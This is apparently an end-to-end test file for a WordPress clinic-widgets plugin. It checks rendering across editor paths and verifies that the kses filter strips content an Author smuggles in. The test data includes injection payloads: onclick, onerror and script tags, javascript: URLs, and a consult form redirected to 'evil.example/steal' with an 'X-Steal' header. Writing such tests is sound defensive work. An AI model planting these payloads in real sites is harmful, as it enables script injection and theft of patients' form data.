// The plugin on a real WordPress 6.1 (site.mjs: Debian's packages, default theme Twenty Twenty-Three):
// pages made through the block path, the classic path (shortcodes through wpautop) and by an
// Author (kses applied), each checked in Chromium; form destinations removed when saved by users
// without unfiltered_html (wordpress/routing.mjs); the settings page; server-rendered FAQ packs;
// tags typed in a template and in classic widgets.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  ROOT,
  checkConsultForm,
  checkFaq,
  checkGallery,
  checkNextDue,
  checkSlider,
  imagesSettled,
  launch,
  recordConsole,
  startServer,
  waitForUpgrade,
  waitUntil,
} from '../helpers.mjs';
import { describeRouting, routingPhp } from './routing.mjs';
import { PLUGIN, editorCanvas, phpString, startWordPress } from './site.mjs';

const SHOTS = process.env.BLUSH_WP_SHOTS ?? join(ROOT, 'dist/wordpress-screenshots');
const ACCENT = '#0a6e62';
const PHONE = '(310) 555-0142';
const log = (line) => console.log(`# ${line}`);

/** A last treatment 60 days before today on this machine's clock: the next one is always ahead. */
const LAST_TREATMENT = (() => {
  const day = new Date();
  day.setDate(day.getDate() - 60);
  return [day.getFullYear(), day.getMonth() + 1, day.getDate()].map((part) => String(part).padStart(2, '0')).join('-');
})();

let site;
let endpoint;
let browser;
let pages;
let pack;

/** A clinic's form back end on another origin, answering CORS like Formspree does. */
const cors = async (request, response) => {
  if (!request.url.startsWith('/wp-leads')) return false;
  const headers = {
    'Access-Control-Allow-Origin': '*',
    'Access-Control-Allow-Headers': '*',
    'Access-Control-Allow-Methods': 'POST, OPTIONS',
  };
  if (request.method === 'OPTIONS') {
    response.writeHead(204, headers).end();
    return true;
  }
  let body = '';
  for await (const chunk of request) body += chunk;
  endpoint.submissions.push({ body, headers: request.headers });
  response.writeHead(200, { ...headers, 'Content-Type': 'application/json' }).end('{"ok":true}');
  return true;
};

before(async () => {
  const started = Date.now();
  pack = JSON.parse(readFileSync(join(PLUGIN, 'packs/botox.json'), 'utf8'));
  endpoint = await startServer({ handlers: [cors] });
  site = await startWordPress({ roles: ['author'], log });
  const uploads = join(site.work, 'wp-content/uploads/blush');
  mkdirSync(uploads, { recursive: true });
  cpSync(join(ROOT, 'test/e2e/pages/img'), uploads, { recursive: true });
  const img = `${site.url}/wp-content/uploads/blush`;
  cpSync(join(ROOT, 'test/e2e/pages/gallery.json'), join(uploads, 'gallery.json'));
  execFileSync('sed', ['-i', `s#/test/e2e/pages/img#${img}#g`, join(uploads, 'gallery.json')]);

  const before = (extra = '') =>
    `before="${img}/before.svg" after="${img}/after.svg" before_alt="Forehead lines before (illustration)" after_alt="Smoother forehead after (illustration)"${extra}`;
  const blockPage = [
    '<!-- wp:paragraph --><p>Answers from our physicians.</p><!-- /wp:paragraph -->',
    '<!-- wp:blush/faq {"pack":"botox"} /-->',
    `<!-- wp:blush/before-after {"before":"${img}/before.svg","after":"${img}/after.svg","before_alt":"Forehead lines before (illustration)","after_alt":"Smoother forehead after (illustration)","caption":"Forehead, two weeks after"} /-->`,
    `<!-- wp:blush/gallery {"src":"${img}/gallery.json"} /-->`,
    '<!-- wp:blush/next-due {"treatment":"botox"} /-->',
    '<!-- wp:blush/consult-form /-->',
    '<!-- wp:html -->\n<blush-faq id="faq-html">\n  <details><summary>Do you offer payment plans?</summary><p>Yes, through our financing partner.</p></details>\n  <details><summary>Where do I park?</summary><p>Free valet at the Wilshire entrance.</p></details>\n</blush-faq>\n<!-- /wp:html -->',
  ].join('\n\n');
  // The classic editor saves plain text with blank lines; wpautop and wptexturize run on display.
  const classicPage = [
    'Our Botox FAQ, written by our physicians. It’s "plain" text here.',
    '[blush_faq pack="botox"]',
    'One result:',
    `[blush_before_after ${before(' caption="Forehead, two weeks after"')}]`,
    `[blush_gallery]\n[blush_before_after treatment="botox" area="Forehead" sessions="1" ${before()}]\n[blush_before_after treatment="filler-lips" area="Lips" ${before()}]\n[/blush_gallery]`,
    '[blush_next_due treatment="botox"]Botox usually lasts three to four months.[/blush_next_due]',
    '[blush_consult_form]',
  ].join('\n\n');
  // What an Author writes in the classic editor, including what kses must remove.
  const authorPage = [
    '<blush-faq single>\n<details><summary>Is it safe?</summary><p>Yes, when a licensed injector gives it.</p></details>\n<details><summary>Does it hurt?</summary><p>Most people feel a brief pinch.</p></details>\n</blush-faq>',
    `<blush-before-after before="${img}/before.svg" after="${img}/after.svg" before-alt="Before (illustration)" after-alt="After (illustration)" onclick="window.__evil=1" style="display:none"></blush-before-after>`,
    `<blush-gallery><blush-before-after treatment="botox" area="Forehead"><img slot="before" src="${img}/before.svg" alt="Before (illustration)" /><img slot="after" src="${img}/after.svg" alt="After (illustration)" /></blush-before-after><blush-before-after treatment="filler-lips" area="Lips"><img slot="before" src="${img}/before.svg" alt="Before (illustration)" /><img slot="after" src="${img}/after.svg" alt="After (illustration)" /></blush-before-after></blush-gallery>`,
    '<blush-next-due treatment="botox" booking-url="javascript:window.__evil=1"></blush-next-due>',
    '<blush-consult-form action="https://evil.example/steal" headers=\'{"X-Steal":"1"}\' success-url="https://evil.example/"></blush-consult-form>',
    '<script>window.__evil = 1</script><img src="x" onerror="window.__evil=1" alt="" />',
  ].join('\n\n');
  // A category archive whose template (edited in the site editor) has tags in a Custom HTML block.
  const template = readFileSync('/usr/share/wordpress/wp-content/themes/twentytwentythree/templates/archive.html', 'utf8').replace(
    '<!-- wp:query ',
    '<!-- wp:html -->\n<blush-faq id="faq-template"><details><summary>Do you open on Saturdays?</summary><p>Yes, from nine to two.</p></details><details><summary>Is there parking?</summary><p>Free valet at the entrance.</p></details></blush-faq>\n<blush-consult-form id="form-template"></blush-consult-form>\n<!-- /wp:html -->\n\n<!-- wp:query ',
  );

  const created = site.php(`
    update_option('blush_widgets_options', blush_widgets_sanitize_options(array(
      'accent' => '${ACCENT}', 'privacy_url' => '${site.url}/privacy-policy/',
      'form_endpoint' => '${endpoint.url}/wp-leads', 'phone' => '${PHONE}',
    )));
    $author = get_user_by('login', 'author')->ID;
    $make = function ($title, $content, $user, $type = 'page') {
      wp_set_current_user($user);
      return wp_insert_post(wp_slash(array('post_title' => $title, 'post_content' => $content, 'post_status' => 'publish', 'post_type' => $type, 'post_author' => $user)), true);
    };
    $ids = array(
      'block' => $make('Botox (blocks)', ${phpString(blockPage)}, 1),
      'classic' => $make('Botox (classic)', ${phpString(classicPage)}, 1),
      'author' => $make('Botox (author)', ${phpString(authorPage)}, $author, 'post'),
    );
    ${routingPhp({ endpoint: endpoint.url, site: site.url })}
    $news = wp_insert_term('Clinic news', 'category', array('slug' => 'clinic-news'));
    $newsPost = $make('New opening hours', 'We now open on Saturdays.', 1, 'post');
    wp_set_post_categories($newsPost, array($news['term_id']));
    $tpl = wp_insert_post(wp_slash(array('post_type' => 'wp_template', 'post_name' => 'category-clinic-news', 'post_title' => 'Clinic news', 'post_status' => 'publish', 'post_content' => ${phpString(template)})), true);
    if (is_wp_error($tpl) || is_wp_error($news)) { echo 'ERROR template'; exit; }
    wp_set_post_terms($tpl, 'twentytwentythree', 'wp_theme');
    $out = array();
    foreach ($ids as $key => $id) {
      if (is_wp_error($id)) { echo 'ERROR ' . $id->get_error_message(); exit; }
      $out[$key] = array('id' => $id, 'url' => get_permalink($id), 'stored' => get_post($id)->post_content);
    }
    $out['archive'] = array('url' => get_category_link($news['term_id']));
    $out += $routing;
    echo wp_json_encode($out);
  `);
  pages = JSON.parse(created.slice(created.indexOf('{')));
  browser = await launch();
  log(`WordPress ${site.url} ready in ${((Date.now() - started) / 1000).toFixed(1)} s`);
});

after(async () => {
  await browser?.close();
  await site?.stop();
  await endpoint?.close();
});

async function open(key, options = {}) {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, ...options });
  const console = recordConsole(page);
  await page.goto(pages[key].url);
  return { page, console };
}

describe('block editor path (admin)', () => {
  let page;
  let console;
  before(async () => {
    ({ page, console } = await open('block'));
    await waitForUpgrade(page);
  });
  after(() => page?.close());

  it('loads the script once, as a module, with the accent token', async () => {
    const scripts = await page.evaluate(() => [...document.querySelectorAll('script[src*="blush-widgets/assets/"]')].map((s) => s.type));
    assert.deepEqual(scripts, ['module']);
    assert.equal(await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--blush-accent').trim()), ACCENT);
  });
  it('screenshots of each element on Twenty Twenty-Three, as first shown', async () => {
    mkdirSync(SHOTS, { recursive: true });
    for (const width of [1280, 375]) {
      await page.setViewportSize({ width, height: 900 });
      for (const [name, selector] of [
        ['faq', 'blush-faq >> nth=0'],
        ['before-after', 'blush-before-after >> nth=0'],
        ['gallery', 'blush-gallery'],
        ['next-due', 'blush-next-due'],
        ['consult-form', 'blush-consult-form'],
      ]) {
        const element = page.locator(selector);
        await element.scrollIntoViewIfNeeded();
        await imagesSettled(element);
        const box = await element.boundingBox();
        assert.ok(box && box.width <= width, `${name} is ${box?.width}px wide in a ${width}px window`);
        await element.screenshot({ path: join(SHOTS, `wordpress-${name}-${width}.png`) });
      }
    }
    await page.setViewportSize({ width: 1280, height: 900 });
  });
  it('FAQ block renders the Botox pack and opens', () =>
    checkFaq(page, 'blush-faq >> nth=0', { question: pack.languages.en[0].question, answer: null }));
  it('Custom HTML block FAQ works', () =>
    checkFaq(page, '#faq-html', { question: 'Do you offer payment plans?', answer: 'financing partner' }));
  it('before/after block works', () => checkSlider(page, 'blush-before-after >> nth=0'));
  it('gallery block (JSON src) works', () => checkGallery(page, 'blush-gallery'));
  it('next-due block works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
  it('consult-form block gets the settings and validates', async () => {
    const form = page.locator('blush-consult-form');
    assert.equal(await form.getAttribute('action'), `${endpoint.url}/wp-leads`);
    assert.equal(await form.getAttribute('phone'), PHONE);
    await checkConsultForm(page, 'blush-consult-form', { submissions: endpoint.submissions });
  });
  it('no page error', () => assert.deepEqual(console.pageErrors, []));
});

describe('classic path (shortcodes through wpautop and wptexturize)', () => {
  let page;
  let console;
  before(async () => {
    ({ page, console } = await open('classic'));
    await waitForUpgrade(page);
  });
  after(() => page?.close());

  it('the pack is in the HTML itself, as <details> items, for crawlers and no-JS visitors', async () => {
    const html = await (await fetch(pages.classic.url)).text();
    for (const item of pack.languages.en)
      assert.ok(
        html.includes(`<summary>${item.question.replace(/&/g, '&amp;')}</summary>`),
        `missing server-rendered question "${item.question}"`,
      );
    assert.ok(html.includes('<a href="tel:3105550142">'), 'consult-form fallback with the phone link');
  });
  it('no element ended up inside a <p> or lost its children', async () => {
    const shape = await page.evaluate(() => ({
      wrapped: [...document.querySelectorAll('blush-faq, blush-before-after, blush-gallery, blush-consult-form, blush-next-due')]
        .filter((el) => el.closest('p'))
        .map((el) => el.localName),
      faqItems: document.querySelectorAll('blush-faq > details').length,
      strayDetails: document.querySelectorAll('details:not(blush-faq > details)').length,
      galleryCases: document.querySelectorAll('blush-gallery > blush-before-after').length,
      galleryBreaks: document.querySelectorAll('blush-gallery > br, blush-gallery > p').length,
    }));
    assert.deepEqual(shape, { wrapped: [], faqItems: pack.languages.en.length, strayDetails: 0, galleryCases: 2, galleryBreaks: 0 });
  });
  it('FAQ shortcode works', () => checkFaq(page, 'blush-faq', { question: pack.languages.en[0].question, answer: null }));
  it('before/after shortcode works', () => checkSlider(page, 'blush-before-after >> nth=0'));
  it('gallery shortcode with nested cases works', () => checkGallery(page, 'blush-gallery'));
  it('next-due shortcode works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
  it('a consultation request reaches the clinic endpoint from the settings', async () => {
    const sent = endpoint.submissions.length;
    const form = page.locator('blush-consult-form');
    await form.scrollIntoViewIfNeeded();
    // A real delay: the form holds a request sent within its minimum fill time (2 s from load).
    await page.waitForFunction(() => performance.now() > 2100, null, { polling: 100 });
    await form.evaluate((host) => {
      for (const input of host.querySelectorAll('input, select, textarea')) {
        if (!(input.required || input.getAttribute('aria-required') === 'true')) continue;
        const set = (value) => {
          input.value = value;
          input.dispatchEvent(new Event('input', { bubbles: true }));
          input.dispatchEvent(new Event('change', { bubbles: true }));
        };
        if (input.type === 'checkbox') input.checked || input.click();
        else if (input.type === 'email') set('ana@example.com');
        else if (input.type === 'tel') set('(310) 555-0199');
        else if (!input.value) set('Ana');
      }
    });
    await form.locator('button[type="submit"]').click();
    await waitUntil(() => endpoint.submissions.length > sent, 'a request reaching the endpoint', 8000);
    assert.equal(endpoint.submissions.length, sent + 1, 'no request reached the endpoint');
    assert.match(endpoint.submissions.at(-1).body, /ana@example\.com/);
  });
  it('no page error', () => assert.deepEqual(console.pageErrors, []));
});

describe('as an Author (no unfiltered_html: kses applies)', () => {
  let page;
  let console;
  before(async () => {
    ({ page, console } = await open('author'));
    await waitForUpgrade(page);
    if (process.env.DEBUG_WP)
      log(
        (await page.evaluate(() => document.querySelector('.wp-block-post-content, .entry-content, main')?.innerHTML ?? '')).replace(
          /\n/g,
          '\n# ',
        ),
      );
  });
  after(() => page?.close());

  it('kses keeps our tags and content attributes and removes everything dangerous', () => {
    const stored = pages.author.stored;
    for (const kept of [
      '<blush-faq single>',
      '<summary>Is it safe?</summary>',
      '<blush-gallery>',
      'slot="before"',
      'before-alt="Before (illustration)"',
      '<blush-next-due treatment="botox"',
      '<blush-consult-form',
    ])
      assert.ok(stored.includes(kept), `kses removed ${kept}`);
    for (const removed of ['onclick', 'onerror', 'style=', '<script', 'evil.example', 'headers=', 'javascript:'])
      assert.ok(!stored.includes(removed), `kses kept ${removed}`);
  });
  it('the form gets the clinic endpoint, not one an author typed', async () => {
    assert.equal(await page.locator('blush-consult-form').getAttribute('action'), `${endpoint.url}/wp-leads`);
  });
  it('FAQ works', () => checkFaq(page, 'blush-faq', { question: 'Is it safe?', answer: 'licensed injector' }));
  it('before/after works', () => checkSlider(page, 'blush-before-after >> nth=0'));
  it('gallery works', () => checkGallery(page, 'blush-gallery'));
  it('next-due works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
  it('consult-form works', () => checkConsultForm(page, 'blush-consult-form', { submissions: endpoint.submissions }));
  it('nothing the author smuggled in runs', async () => {
    assert.equal(await page.evaluate(() => window.__evil), undefined);
    assert.deepEqual(console.pageErrors, []);
  });
});

describeRouting(() => ({ pages, endpoint, site }));

describe('tags outside post content', () => {
  it('a Custom HTML block in a category archive template loads the script once and works', async () => {
    const { page, console } = await open('archive');
    try {
      await waitForUpgrade(page, ['blush-faq', 'blush-consult-form']);
      const scripts = await page.evaluate(() => [...document.querySelectorAll('script[src*="blush-widgets/assets/"]')].map((s) => s.type));
      assert.deepEqual(scripts, ['module']);
      await checkFaq(page, '#faq-template', { question: 'Do you open on Saturdays?', answer: 'nine to two' });
      assert.equal(await page.locator('#form-template').getAttribute('action'), `${endpoint.url}/wp-leads`);
      assert.deepEqual(console.pageErrors, []);
    } finally {
      await page.close();
    }
  });
  for (const [widget, instance] of [
    ['WP_Widget_Custom_HTML', { title: '', content: '<blush-consult-form></blush-consult-form>' }],
    ['WP_Widget_Text', { title: '', text: '[blush_consult_form]', filter: true, visual: true }],
  ]) {
    it(`a classic ${widget} enqueues the script and its form sends to the settings endpoint`, () => {
      const printed = site.php(`
        ob_start();
        the_widget('${widget}', json_decode(${phpString(JSON.stringify(instance))}, true));
        echo wp_json_encode(array('html' => ob_get_clean(), 'enqueued' => wp_script_is('blush-widgets', 'enqueued')));
      `);
      const out = JSON.parse(printed.slice(printed.indexOf('{')));
      assert.equal(out.enqueued, true, `script not enqueued for ${out.html}`);
      assert.match(out.html, new RegExp(`<blush-consult-form[^>]* action="${endpoint.url}/wp-leads"`));
    });
  }
});

describe('settings page', () => {
  it('an administrator sets the accent, pages follow, and the editor offers the blocks', async () => {
    const page = await site.loginPage(browser);
    try {
      await page.goto(`${site.url}/wp-admin/options-general.php?page=blush-widgets`);
      assert.equal(await page.inputValue('#blush_widgets_form_endpoint'), `${endpoint.url}/wp-leads`);
      assert.equal(await page.inputValue('#blush_widgets_phone'), PHONE);
      // WordPress's colour picker, typed into: a light pink is kept, with the reason it is hard to read.
      const accent = page.locator('#blush_widgets_accent');
      assert.equal(await page.locator('.wp-picker-container #blush_widgets_accent').count(), 1, 'no colour picker');
      // The picker shows its text box once its "Select Color" button is pressed, as a clinic would.
      const openPicker = () => page.click('.wp-picker-container .wp-color-result');
      await openPicker();
      await accent.fill('');
      await accent.pressSequentially('#f4c2d2');
      await page.locator('.blush-contrast', { hasText: 'hard to read' }).waitFor({ timeout: 5000 });
      await Promise.all([page.waitForURL(/settings-updated/), page.click('#submit')]);
      assert.equal(await accent.inputValue(), '#f4c2d2');
      assert.match(await page.locator('.notice-warning, .settings-error').first().innerText(), /hard to read .*\(1\.\d:1\)/);
      await openPicker();
      await accent.fill('');
      await accent.pressSequentially('#123456');
      await page.waitForFunction(() => document.querySelector('.blush-contrast')?.textContent === '', null, { timeout: 5000 });
      await page.fill('#blush_widgets_privacy_url', 'javascript:alert(1)');
      await Promise.all([page.waitForURL(/settings-updated/), page.click('#submit')]);
      assert.equal(await page.inputValue('#blush_widgets_accent'), '#123456');
      assert.equal(await page.inputValue('#blush_widgets_privacy_url'), '', 'a javascript: URL was saved');
      await page.goto(pages.block.url);
      assert.equal(
        await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--blush-accent').trim()),
        '#123456',
      );

      // The block editor: our five blocks are registered, and an inserted FAQ block previews the real element.
      const editorErrors = recordConsole(page);
      await page.goto(`${site.url}/wp-admin/post-new.php?post_type=page`);
      await page.waitForFunction(() => window.wp?.blocks?.getBlockType?.('blush/faq'), null, { timeout: 20_000 });
      const names = await page.evaluate(() =>
        window.wp.blocks
          .getBlockTypes()
          .map((block) => block.name)
          .filter((name) => name.startsWith('blush/'))
          .sort(),
      );
      assert.deepEqual(names, [
        'blush/before-after',
        'blush/consult-form',
        'blush/faq',
        'blush/faq-item',
        'blush/gallery',
        'blush/gallery-case',
        'blush/next-due',
      ]);
      await page.evaluate(() =>
        window.wp.data.dispatch('core/block-editor').insertBlocks(window.wp.blocks.createBlock('blush/faq', { pack: 'botox' })),
      );
      await (
        await editorCanvas(page)
      ).waitForFunction(
        () => document.querySelector('.editor-styles-wrapper blush-faq')?.shadowRoot?.querySelector('[aria-expanded]'),
        null,
        {
          timeout: 20_000,
        },
      );
      assert.deepEqual(editorErrors.pageErrors, []);
    } finally {
      await page.close();
    }
  });
});
